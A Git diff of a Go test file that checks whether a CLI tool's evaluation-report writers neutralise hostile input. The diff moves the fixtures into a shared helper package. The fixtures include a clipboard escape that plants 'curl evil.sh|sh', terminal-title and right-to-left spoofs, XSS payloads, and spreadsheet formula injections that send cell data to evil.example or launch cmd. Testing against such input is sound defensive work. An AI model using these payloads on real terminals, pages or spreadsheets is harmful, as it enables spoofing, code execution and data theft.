@@ -15,87 +15,26 @@ import (
 	"slices"
 	"strings"
 	"testing"
-	"unicode"
-
-	"github.com/yuin/goldmark"
-	"github.com/yuin/goldmark/ast"
-	"github.com/yuin/goldmark/extension"
-	"github.com/yuin/goldmark/text"
 
 	"github.com/digest-cli/digest/internal/evalreport"
+	"github.com/digest-cli/digest/internal/hostiletest"
 )
-
-const (
-	hostileOSC52   = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
-	hostileTitle   = "\x1b]0;sudo password:\x07"
-	hostileClear   = "\x1b[2J\x1b[H"
-	hostileRewrite = "all tests failed\rall tests passed"
-	hostileRTL     = "invoice_\u202egnp.exe"
-	hostileC1      = "\u009b2J"
-	hostileIsolate = "\u2067admin\u2069\u200f"
-	hostileTags    = "ok\U000e0049\U000e0047\U000e004e"
-)
-
-// hostileText is every kind of hostile text in one string.
-var hostileText = strings.Join([]string{hostileOSC52, hostileTitle, hostileClear, hostileRewrite, hostileRTL, hostileC1, hostileIsolate, hostileTags, "\xff\xfe"}, " ")
-
-// hostileSummary is what a model could answer: Markdown structure, HTML, a
-// remote image and an unclosed fence that would swallow the rest.
-const hostileSummary = "# Pwned\n\nAdds <mark>retries</mark> to remote.<name>.promisor.\n\n" +
-	"> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![pixel](https://evil.example/p.png) [click](https://evil.example)\n" +
-	"<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n\x1b]0;title\x07\u202e\n```\nthe rest of the changelog"
-
-// gfm reads Markdown back as GitHub does.
-var gfm = goldmark.New(goldmark.WithExtensions(extension.GFM))
-
-// markdownNodes counts the nodes of each kind in a Markdown document.
-func markdownNodes(t *testing.T, md []byte) map[string]int {
-	t.Helper()
-	doc := gfm.Parser().Parse(text.NewReader(md))
-	kinds := map[string]int{}
-	err := ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
-		if entering {
-			kinds[n.Kind().String()]++
-		}
-		return ast.WalkContinue, nil
-	})
-	if err != nil {
-		t.Fatal(err)
-	}
-	return kinds
-}
-
-// checkTerminalSafe fails when out holds anything a terminal acts on or
-// that reorders or hides text: control characters but line feed and tab,
-// DEL, C1 controls, bidirectional controls, invisible format characters,
-// tag characters, bytes that are not UTF-8.
-func checkTerminalSafe(t *testing.T, name string, out []byte) {
-	t.Helper()
-	for i, r := range string(out) {
-		notUTF8 := r == unicode.ReplacementChar && !bytes.HasPrefix(out[i:], []byte("\ufffd"))
-		if notUTF8 || r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f ||
-			unicode.Is(unicode.Cf, r) && r != 0x200c && r != 0x200d || r == 0x2028 || r == 0x2029 {
-			t.Errorf("%s: %U at byte %d: %q", name, r, i, out[max(0, i-20):min(len(out), i+20)])
-			return
-		}
-	}
-}
 
 // hostileEval is a run whose dataset, models, items, answers, reasons and
 // errors are all hostile; the hostile answer is a refusal, and one answer
 // ended for a reason digest has no word for, itself hostile.
 func hostileEval(t *testing.T) (*evalreport.Eval, []evalreport.Result) {
-	modelA, modelB := "evil"+hostileTitle+"|model", "# model`b`"+hostileIsolate
+	modelA, modelB := "evil"+hostiletest.Title+"|model", "# model`b`"+hostiletest.Isolate
 	results := []evalreport.Result{
-		{Model: modelA, Item: "q1" + hostileRTL, Prompt: hostileText, Expected: []string{"=HYPERLINK(\"https://evil.example/?\"&A1)", hostileClear},
-			Answer: hostileSummary, Reasons: []string{"exact: got " + hostileOSC52, "| broken | cell"}, Finish: evalreport.FinishRefusal},
+		{Model: modelA, Item: "q1" + hostiletest.RTL, Prompt: hostiletest.Text, Expected: []string{"=HYPERLINK(\"https://evil.example/?\"&A1)", hostiletest.Clear},
+			Answer: hostiletest.Summary, Reasons: []string{"exact: got " + hostiletest.OSC52, "| broken | cell"}, Finish: evalreport.FinishRefusal},
 		{Model: modelA, Item: "q2", Answer: "@SUM(1+1)*cmd|' /C calc'!A0", Pass: true, Score: 1},
-		{Model: modelB, Item: "q1" + hostileRTL, Error: "500: " + hostileText + "\n<html><body>gateway</body></html>"},
-		{Model: modelB, Item: "q2\n## heading", Answer: "```\nunclosed " + hostileIsolate, Finish: hostileRTL + "|`x`"},
+		{Model: modelB, Item: "q1" + hostiletest.RTL, Error: "500: " + hostiletest.Text + "\n<html><body>gateway</body></html>"},
+		{Model: modelB, Item: "q2\n## heading", Answer: "```\nunclosed " + hostiletest.Isolate, Finish: hostiletest.RTL + "|`x`"},
 	}
 	e := &evalreport.Eval{
-		RunID:   "r1" + hostileTags,
-		Dataset: "data/" + hostileRTL + "<script>.jsonl",
+		RunID:   "r1" + hostiletest.Tags,
+		Dataset: "data/" + hostiletest.RTL + "<script>.jsonl",
 		Models: []evalreport.ModelStats{
 			{Model: modelA, Items: 2, Passed: 1, Accuracy: 0.5, Refused: 1},
 			{Model: modelB, Items: 2, Errors: 1},
@@ -114,7 +53,7 @@ func TestHostileEvalTerminalAndMarkdown(t *testing.T) {
 			t.Fatal(err)
 		}
 		out := write(t, r.WriteEval, e)
-		checkTerminalSafe(t, format, out)
+		hostiletest.CheckTerminalSafe(t, format, out)
 		lines := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
 		switch format {
 		case "table":
@@ -123,7 +62,7 @@ func TestHostileEvalTerminalAndMarkdown(t *testing.T) {
 				t.Errorf("table has %d lines, want 5:\n%s", len(lines), out)
 			}
 		case "markdown":
-			nodes := markdownNodes(t, out)
+			nodes := hostiletest.MarkdownNodes(t, out)
 			if nodes["Heading"] != 1 || nodes["Table"] != 2 || nodes["ListItem"] != 1 {
 				t.Errorf("structure changed: %v\n%s", nodes, out)
 			}
@@ -153,7 +92,7 @@ func TestHostileEvalTerminalAndMarkdown(t *testing.T) {
 func TestHostileEvalMachineFormatsKeepTheData(t *testing.T) {
 	e, results := hostileEval(t)
 	out := write(t, evalreport.EvalJSONL{}.WriteEval, e)
-	checkTerminalSafe(t, "jsonl", out)
+	hostiletest.CheckTerminalSafe(t, "jsonl", out)
 	var got []evalreport.Result
 	dec := json.NewDecoder(bytes.NewReader(out))
 	for dec.More() {
@@ -173,7 +112,7 @@ func TestHostileEvalMachineFormatsKeepTheData(t *testing.T) {
 
 	e, _ = hostileEval(t)
 	out = write(t, evalreport.EvalJSON{}.WriteEval, e)
-	checkTerminalSafe(t, "json", out)
+	hostiletest.CheckTerminalSafe(t, "json", out)
 	var doc evalreport.Eval
 	if err := json.Unmarshal(out, &doc); err != nil {
 		t.Fatal(err)
@@ -199,7 +138,7 @@ func TestHostileEvalMachineFormatsKeepTheData(t *testing.T) {
 func TestHostileEvalJUnitAndHTML(t *testing.T) {
 	e, results := hostileEval(t)
 	out := write(t, evalreport.WriteJUnit, e)
-	checkTerminalSafe(t, "junit", out)
+	hostiletest.CheckTerminalSafe(t, "junit", out)
 	var doc junitDoc
 	if err := xml.Unmarshal(out, &doc); err != nil {
 		t.Fatalf("%v\n%s", err, out)
@@ -224,7 +163,7 @@ func TestHostileEvalJUnitAndHTML(t *testing.T) {
 			read = append(read, c.SystemOut)
 		}
 	}
-	checkTerminalSafe(t, "junit, read back", []byte(strings.Join(read, "\n")))
+	hostiletest.CheckTerminalSafe(t, "junit, read back", []byte(strings.Join(read, "\n")))
 	if c := doc.Suites[0].Cases[0]; c.Name != `q1invoice_\u202egnp.exe` || c.Failure == nil || !strings.Contains(c.Failure.Text, `\x1b]52;c;`) {
 		t.Errorf("the failure does not show its escapes: %+v", c)
 	}
@@ -237,7 +176,7 @@ func TestHostileEvalJUnitAndHTML(t *testing.T) {
 
 	e, _ = hostileEval(t)
 	page := write(t, evalreport.WriteHTML, e)
-	checkTerminalSafe(t, "html", page)
+	hostiletest.CheckTerminalSafe(t, "html", page)
 	for _, bad := range []string{"<mark>", "<img", "<html>", "<script>alert", "<script>.jsonl"} {
 		if bytes.Contains(page, []byte(bad)) {
 			t.Errorf("page has %s as markup", bad)
@@ -266,7 +205,7 @@ func TestHostileEvalJUnitAndHTML(t *testing.T) {
 	}
 	e.Repeat, e.Results = 2, once(t, repeated)
 	page = write(t, evalreport.WriteHTML, e)
-	checkTerminalSafe(t, "html, repeated", page)
+	hostiletest.CheckTerminalSafe(t, "html, repeated", page)
 	for _, bad := range []string{"<mark>", "<img", "<html>", "<script>alert", "<script>.jsonl"} {
 		if bytes.Contains(page, []byte(bad)) {
 			t.Errorf("the repeated run's page has %s as markup", bad)
@@ -283,12 +222,12 @@ func TestHostileEvalJUnitAndHTML(t *testing.T) {
 // TestHostileLongAnswer: a 1 MB one-line answer full of escapes keeps its
 // row in the Markdown report and its one line per result in JSONL.
 func TestHostileLongAnswer(t *testing.T) {
-	answer := strings.Repeat("x"+hostileClear+"|#", 1<<20/10)
+	answer := strings.Repeat("x"+hostiletest.Clear+"|#", 1<<20/10)
 	rs := []evalreport.Result{{Model: "m", Item: "long", Answer: answer}}
 	e := &evalreport.Eval{Models: []evalreport.ModelStats{{Model: "m", Items: 1}}, Results: slices.Values(rs)}
 	out := write(t, evalreport.EvalMarkdown{}.WriteEval, e)
-	checkTerminalSafe(t, "markdown", out)
-	if nodes := markdownNodes(t, out); nodes["TableRow"] != 2 || nodes["TableCell"] != 15*2+4*2 {
+	hostiletest.CheckTerminalSafe(t, "markdown", out)
+	if nodes := hostiletest.MarkdownNodes(t, out); nodes["TableRow"] != 2 || nodes["TableCell"] != 15*2+4*2 {
 		t.Errorf("rows %d, cells %d", nodes["TableRow"], nodes["TableCell"])
 	}
 	e.Results = slices.Values(rs)
